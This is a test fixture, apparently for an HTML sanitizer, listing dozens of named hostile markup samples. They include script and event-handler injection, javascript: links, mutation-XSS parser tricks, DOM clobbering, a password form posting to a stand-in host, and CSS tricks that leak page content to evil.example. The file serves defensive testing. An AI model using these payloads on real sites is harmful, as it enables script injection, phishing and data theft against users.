/**
 * Letters that try to run, to call home, to pose or to get out of their frame. Each would set `window.top.harm` or `window.harm`, fetch from
 * elsewhere, or leave a live control, if it got through.
 */
const HARM = 'try{top.harm=1}catch{};window.harm=1';

export const HOSTILE_LETTERS: Readonly<Record<string, string>> = {
  script: `<script>${HARM}</script>`,
  'script in svg': `<svg><script>${HARM}</script></svg>`,
  'script by src': '<script src="https://evil.example/x.js"></script>',
  'script in uppercase and halves': `<SCR<script>IPT>${HARM}</SCR</script>IPT>`,
  onerror: `<img src=x onerror="${HARM}">`,
  'onerror without quotes': `<img/src=x/onerror=${HARM.replace(/[{};]/g, '')}>`,
  'onload on body': `<body onload="${HARM}">`,
  'onload on svg': `<svg/onload="${HARM}">`,
  'onfocus with autofocus': `<input autofocus onfocus="${HARM}"><a href=# autofocus onfocus="${HARM}" tabindex=1>x</a>`,
  'ontoggle on details': `<details open ontoggle="${HARM}">x</details>`,
  onanimationstart: `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${HARM}">x</b>`,
  'onbegin in svg': `<svg><animate onbegin="${HARM}" attributeName=x dur=1s>`,
  'javascript link': `<a href="javascript:${HARM}">x</a>`,
  'javascript link with tab and entities': `<a href="java&#x09;script&colon;${HARM}">x</a>`,
  'javascript link with control before': `<a href="&#1;javascript:${HARM}">x</a>`,
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data link': `<a href="data:text/html,<script>${HARM}</script>">x</a>`,
  'xlink in svg': `<svg><a xlink:href="javascript:${HARM}"><text y=20>x</text></a></svg>`,
  'use in svg': '<svg><use href="https://evil.example/x.svg#a"></use></svg>',
  'iframe by srcdoc': `<iframe srcdoc="<script>parent.parent.harm=1</script>"></iframe>`,
  'iframe by javascript': `<iframe src="javascript:${HARM}"></iframe>`,
  'iframe from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  object: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  base: '<base href="https://evil.example/"><a href="login">x</a><img src="pixel.gif">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'meta policy': `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  'form to elsewhere': '<form action="https://evil.example/"><input name=p type=password><button>x</button></form>',
  formaction: '<button form=f formaction="javascript:top.harm=1">x</button><form id=f></form>',
  'isindex by select': '<select><option>x</select><textarea>x</textarea>',
  'link to a style sheet':
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/y">',
  'link of dns-prefetch':
    '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="https://evil.example">',
  'import in style': '<style>@import url("https://evil.example/x.css");@import "//evil.example/y.css";</style>',
  'font in style':
    '<style>@font-face{font-family:x;src:url(https://evil.example/f.woff2)}b{font-family:x}</style><b>x</b>',
  'background in style': '<style>b{background:url(https://evil.example/bg.png)}</style><b>x</b>',
  'background with escapes': '<b style="background:u\\72l(https://evil.example/esc.png)">x</b>',
  'background with a comment': '<b style="background:/**/url(/*a*/https://evil.example/com.png)">x</b>',
  'image-set': '<b style="background-image:image-set(\'https://evil.example/set.png\' 1x)">x</b>',
  variable: '<style>:root{--x:url(https://evil.example/v.png)}b{background:var(--x)}</style><b>x</b>',
  'list-style and cursor':
    '<ul style="list-style:url(https://evil.example/l.png);cursor:url(https://evil.example/c.cur),auto"><li>x</ul>',
  'border-image, mask, shape':
    '<b style="border-image:url(https://evil.example/b.png) 1;mask:url(https://evil.example/m.svg#a);shape-outside:url(https://evil.example/s.png);display:block">x</b>',
  content: '<style>b::after{content:url(https://evil.example/after.png)}</style><b>x</b>',
  'filter in svg': '<b style="filter:url(https://evil.example/f.svg#a)">x</b>',
  'attribute selector that tells a letter':
    '<style>a[href^="https://a"]{background:url(https://evil.example/?a)}</style><a href="https://a.example">x</a>',
  'font of single letters':
    '<style>@font-face{font-family:q;src:url(https://evil.example/?A);unicode-range:U+0041}p{font-family:q}</style><p>A</p>',
  'scroll to text and lazy picture': '<img loading=lazy src="https://evil.example/lazy.gif">',
  'picture with srcset':
    '<img srcset="https://evil.example/2x.png 2x"><picture><source srcset="https://evil.example/p.webp"><img></picture>',
  'video, audio, track':
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3" autoplay></audio>',
  'picture by protocol alone':
    '<img src="//evil.example/rel.gif"><table background="https://evil.example/t.gif"><td background="https://evil.example/td.gif">x</table>',
  'picture of backslashes': '<img src="https:\\\\evil.example\\bs.gif"><img src="\\\\evil.example\\bs2.gif">',
  'svg picture that runs': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${HARM}'/>">`,
  ping: '<a href="https://a.example" ping="https://evil.example/ping">x</a>',
  'fixed cover':
    '<div style="position:fixed;inset:0;z-index:99999;background:red"><a href="https://evil.example">x</a></div>',
  'fixed cover by a sheet, by sticky and by a transform':
    '<style>.c{position:fixed!important;inset:0}.s{position:sticky;top:0}@media all{.c{position:fixed}}@layer x{.c{position:fixed}}@supports (top:0){.c{position:fixed}}</style><div class="c">x</div><p class="s">x</p>',
  'nested rules that cover and fetch':
    '<style>.n{color:red;& b{position:fixed;background:url(https://evil.example/n.png)}}</style><div class="n"><b>x</b></div>',
  'sheet that types what it reads':
    '<style>@import url(//evil.example/a);@namespace url(https://evil.example/n);@container (width>1px){b{background:url(https://evil.example/c)}}@property --p{syntax:"*";inherits:false;initial-value:url(https://evil.example/p)}@counter-style q{system:cyclic;symbols:url(https://evil.example/q)}</style><b>x</b>',
  'attr and image of a typed value':
    '<b data-x="https://evil.example/attr" style="background-image:image(attr(data-x type(<url>)));background:src(attr(data-x))">x</b>',
  'mXSS by mglyph and malignmark': `<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror="${HARM}">]]></style></mglyph></table></mtext></math>`,
  'mXSS by desc and foreignObject': `<svg><desc><style><a title="</style><img src=x onerror='${HARM}'>"></style></desc><foreignObject><p><style><!--</style><img src=x onerror="${HARM}">--></style></p></foreignObject></svg>`,
  'mXSS by plaintext, noembed and noframes': `<noembed><img title="</noembed><img src=x onerror='${HARM}'>"></noembed><noframes><p title="</noframes><img src=x onerror='${HARM}'>"></noframes><plaintext><img src=x onerror="${HARM}">`,
  'mXSS by title in svg': `<svg><title><style><a id="</title><img src=x onerror='${HARM}'>"></style></title></svg>`,
  'mXSS by deep nesting that flattens': `${'<math><mi>'.repeat(300)}<style><!--</style><img title="--&gt;&lt;img src=x onerror='${HARM}'&gt;">`,
  'processing instruction': `<?xml-stylesheet href="https://evil.example/x.xsl"?><?x ><img src=x onerror='${HARM}'>?>`,
  'null and odd white space in names': `<img\u000Csrc=x\u000Conerror="${HARM}"><im\u0000g src=x onerror="${HARM}"><a href="\u0000javascript:${HARM}">x</a>`,
  'handlers of newer browsers': `<div oncontentvisibilityautostatechange="${HARM}" style="content-visibility:auto">x</div><div popover onbeforetoggle="${HARM}" id=q></div><a onpointerrawupdate="${HARM}" onscrollend="${HARM}">x</a>`,
  'commands and anchors of newer browsers':
    '<button commandfor=d command=show-modal>x</button><dialog id=d closedby=any>x</dialog><div anchor=d style="position:fixed;position-anchor:--a;inset:anchor(auto)">x</div>',
  'noscript in head': `<head><noscript><style></noscript><img src=x onerror='${HARM}'></style></noscript></head>`,
  'mXSS by noscript': `<noscript><p title="</noscript><img src=x onerror='${HARM}'>">`,
  'mXSS by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${HARM}'&gt;">`,
  'mXSS by math and annotation': `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${HARM}"></style></annotation-xml></math>`,
  'mXSS by svg style': `<svg></p><style><a id="</style><img src=1 onerror='${HARM}'>">`,
  'mXSS by nested forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${HARM}'>`,
  'mXSS by template': `<template><script>${HARM}</script></template><template shadowrootmode=open><script>${HARM}</script></template>`,
  'mXSS by select and xmp': `<select><xmp><script>${HARM}</script></xmp></select><xmp><img src=x onerror='${HARM}'></xmp>`,
  'mXSS by listing and textarea': `<textarea></textarea><listing>&lt;img onerror="${HARM}" src=x&gt;</listing>`,
  'mXSS by CDATA': `<svg><![CDATA[><img src=x onerror='${HARM}'>]]></svg>`,
  'comment that ends early': `<!--><img src=x onerror='${HARM}'>--><!--!><script>${HARM}</script>-->`,
  'conditional comment': `<!--[if gte IE 4]><script>${HARM}</script><![endif]-->`,
  clobbering:
    '<img name=querySelectorAll><form name=body><input name=childNodes></form><a id=location href="https://evil.example"></a>',
  'clobbered attributes': '<form id=x><input name=attributes><input name=removeAttribute></form>',
  'very deep': `${'<div>'.repeat(2_000)}x`,
  'style that never ends': '<style>b{color:red;background:url(https://evil.example/end',
  'style with markup': `<style></style/><script>${HARM}</script>`,
  'custom element': `<x-evil onclick="${HARM}">x</x-evil><b is="x-evil">x</b>`,
  'dialog and popover': '<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>x</button>',
  'contenteditable and drag': '<div contenteditable draggable=true>x</div>',
  'target and opener':
    '<a href="https://evil.example" target="_top" rel="opener">x</a><area href="https://evil.example" target="_parent">',
};
